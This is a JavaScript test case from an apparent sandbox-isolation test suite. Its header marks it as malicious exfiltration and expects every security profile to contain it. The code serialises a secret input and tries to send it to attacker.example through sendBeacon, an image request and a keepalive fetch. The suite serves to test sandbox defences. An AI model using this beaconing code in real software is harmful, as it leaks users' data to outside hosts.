/*---
id: ex-xhr-ws-04-beacon
description: "Tries navigator.sendBeacon and an image-load beacon with optional chaining, falling back to fetch, so any one available channel leaks the input."
kind: malicious
category: exfiltration
technique: EX-xhr-ws
variant: combined
references:
  - "isolated-vm FAQ"
  - "Deno permissions"
  - "workerd capability bindings"
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
input: { secret: "beacon-data" }
---*/
const payload = encodeURIComponent(JSON.stringify(input));
if (globalThis.navigator?.sendBeacon?.('https://attacker.example/b', payload)) return 'ESCAPED: beacon sent';
if (typeof globalThis.Image === 'function') { new Image().src = 'https://attacker.example/i?' + payload; return 'ESCAPED: image beacon'; }
if (typeof fetch === 'function') {
  return fetch('https://attacker.example/f?' + payload, { keepalive: true }).then(() => 'ESCAPED: fetch beacon', () => 'held');
}
return 'held';
